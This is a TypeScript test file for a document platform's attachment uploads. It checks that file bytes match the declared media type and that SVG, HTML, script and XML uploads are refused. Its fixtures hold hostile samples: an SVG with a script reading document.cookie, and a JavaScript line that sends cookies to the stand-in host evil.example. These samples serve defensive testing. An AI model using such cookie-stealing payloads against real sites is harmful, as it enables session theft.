/**
 * Issue 12, "Untrusted content → Attachments": the declared media type is checked against the bytes (their
 * signature), SVG and anything a browser would run (HTML, XML, script) is refused whatever it claims to be, and
 * the type an attachment is served with is the verified one. Real bytes, through the gateway over HTTP.
 */
import { cultureDocument } from '../support/documents';
import { errorCodes, startTestPlatform, type TestPlatform } from '../support/platform';
import { ATTACH, PDF, upload } from '../support/uploads';

/** A 1×1 transparent PNG. */
const PNG = Buffer.from(
  '89504e470d0a1a0a0000000d4948445200000001000000010806000000' +
    '1f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082',
  'hex',
);
const HTML = Buffer.from('<!DOCTYPE html>\n<html><body><script>fetch("/graphql")</script></body></html>\n');
const SVG = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>',
);
const JS = Buffer.from('document.location = "https://evil.example/?" + document.cookie;\n');
const CSV = Buffer.from('dzielnica;liczba\nStare Miasto;12\nPodgórze;7\n');

describe('issue 12: attachment types are checked against their bytes', () => {
  let platform: TestPlatform;
  let documentId: string;
  beforeAll(async () => {
    platform = await startTestPlatform();
    documentId = await cultureDocument(platform, { title: 'Załączniki do sprawdzenia' }, { draft: true });
  });
  afterAll(() => platform?.stop());

  const attach = (fileName: string, mediaType: string, bytes: Buffer) =>
    platform.query(
      ATTACH,
      { documentId, input: { fileName, mediaType, contentBase64: bytes.toString('base64') } },
      'tomasz.zielinski',
    );

  test('issue 12: a real PDF, PNG, text and CSV are accepted and served with their verified type', async () => {
    for (const [fileName, mediaType, bytes] of [
      ['regulamin.pdf', 'application/pdf', PDF],
      ['mapa.png', 'image/png', PNG],
      ['dzielnice.csv', 'text/csv', CSV],
      ['uwagi.txt', 'text/plain', Buffer.from('Dzieci < 5 lat wchodzą za darmo.\n')],
    ] as const) {
      const added = await attach(fileName, mediaType, bytes);
      expect(added.errors).toBeUndefined();
      expect(added.data!.addAttachment).toMatchObject({ fileName, mediaType, size: bytes.length });
    }
    const read = await platform.query(
      'query($id: ID!) { document(id: $id) { attachments { fileName mediaType contentBase64 } } }',
      { id: documentId },
      'tomasz.zielinski',
    );
    const served = read.data!.document.attachments as { fileName: string; mediaType: string; contentBase64: string }[];
    expect(served.map((a) => [a.fileName, a.mediaType])).toEqual([
      ['regulamin.pdf', 'application/pdf'],
      ['mapa.png', 'image/png'],
      ['dzielnice.csv', 'text/csv'],
      ['uwagi.txt', 'text/plain'],
    ]);
    expect(Buffer.from(served[1].contentBase64, 'base64').equals(PNG)).toBe(true);
  });

  test('issue 12: an HTML page uploaded as a PDF is refused, naming the field and what its bytes are', async () => {
    const response = await attach('faktura.pdf', 'application/pdf', HTML);
    expect(errorCodes(response)).toEqual(['BAD_USER_INPUT']);
    expect(response.errors![0].extensions).toMatchObject({
      field: 'contentBase64',
      declared: 'application/pdf',
      detected: 'text/html',
    });
    expect(response.errors![0].message).toMatch(
      /"contentBase64" is not the application\/pdf that "mediaType" declares: its bytes are text\/html/,
    );
  });

  test('issue 12: bytes of another accepted type, or of none, do not pass for the declared one', async () => {
    const pngAsJpeg = await attach('zdjecie.jpg', 'image/jpeg', PNG);
    expect(errorCodes(pngAsJpeg)).toEqual(['BAD_USER_INPUT']);
    expect(pngAsJpeg.errors![0].extensions).toMatchObject({ detected: 'image/png' });
    const pdfAsText = await attach('notatka.txt', 'text/plain', PDF);
    expect(pdfAsText.errors![0].extensions).toMatchObject({ detected: 'application/pdf' });
    const noise = await attach('skan.pdf', 'application/pdf', Buffer.from([0x00, 0x13, 0x37, 0xfe, 0xff, 0x00, 0x01]));
    expect(noise.errors![0].extensions).toMatchObject({ field: 'contentBase64', detected: null });
    expect(noise.errors![0].message).toMatch(/not a format the platform recognises/);
  });

  test('issue 12: SVG is refused (it carries scripts), declared as SVG or disguised as an image or text', async () => {
    const declared = await attach('herb.svg', 'image/svg+xml', SVG);
    expect(errorCodes(declared)).toEqual(['BAD_USER_INPUT']);
    expect(declared.errors![0].extensions).toMatchObject({ field: 'mediaType' });
    expect(declared.errors![0].message).toMatch(/SVG images are not accepted/);
    for (const mediaType of ['image/png', 'text/plain']) {
      const disguised = await attach('herb.png', mediaType, SVG);
      expect(errorCodes(disguised)).toEqual(['BAD_USER_INPUT']);
      expect(disguised.errors![0].extensions).toMatchObject({ detected: 'image/svg+xml' });
    }
  });

  test('issue 12: active content — HTML, JavaScript, XML — is refused as its own type and as text', async () => {
    for (const [mediaType, bytes] of [
      ['text/html', HTML],
      ['application/javascript', JS],
      ['text/javascript', JS],
      ['application/xml', Buffer.from('<?xml version="1.0"?><a/>')],
      ['application/xhtml+xml', HTML],
    ] as const) {
      const response = await attach('plik', mediaType, bytes);
      expect(errorCodes(response)).toEqual(['BAD_USER_INPUT']);
      expect(response.errors![0].extensions).toMatchObject({ field: 'mediaType' });
    }
    const htmlAsText = await attach('strona.txt', 'text/plain', HTML);
    expect(htmlAsText.errors![0].extensions).toMatchObject({ detected: 'text/html' });
    const xmlAsCsv = await attach('dane.csv', 'text/csv', Buffer.from('<?xml version="1.0"?><dane/>'));
    expect(xmlAsCsv.errors![0].extensions).toMatchObject({ detected: 'application/xml' });
    const read = await platform.query(
      'query($id: ID!) { document(id: $id) { attachments { fileName } } }',
      { id: documentId },
      'tomasz.zielinski',
    );
    expect(read.data!.document.attachments.map((a: { fileName: string }) => a.fileName)).not.toContain('strona.txt');
  });
  test('issue 12: an editor attaches a 3 MB PDF through /uploads; inline, it is over the 1 MB a request may be, and 413 says where files go', async () => {
    // A real PDF padded with a comment line to 3 MB.
    const large = Buffer.concat([PDF, Buffer.from(`%${'x'.repeat(3 * 1024 * 1024)}\n`)]);
    const sent = await upload(platform, large, 'tomasz.zielinski');
    expect(sent).toMatchObject({ status: 201, mediaType: 'application/pdf', size: large.length });
    const added = await platform.query(
      ATTACH,
      { documentId, input: { fileName: 'plan-miejscowy.pdf', mediaType: 'application/pdf', uploadId: sent.uploadId } },
      'tomasz.zielinski',
    );
    expect(added.errors).toBeUndefined();
    expect(added.data!.addAttachment).toMatchObject({ mediaType: 'application/pdf', size: large.length });

    const body = JSON.stringify({
      query: ATTACH,
      variables: {
        documentId,
        input: { fileName: 'plan.pdf', mediaType: 'application/pdf', contentBase64: large.toString('base64') },
      },
    });
    for (const authorization of [undefined, `Bearer ${await platform.token('tomasz.zielinski')}`]) {
      const response = await fetch(platform.gatewayUrl, {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...(authorization ? { authorization } : {}) },
        body,
      });
      expect(response.status).toBe(413);
      const answer = (await response.json()) as { errors: { message: string }[] };
      expect(answer.errors[0].message).toMatch(
        /larger than 1 MB\. A file goes to POST \/uploads first \(its bytes as the body\), then addAttachment/,
      );
    }
  });
});
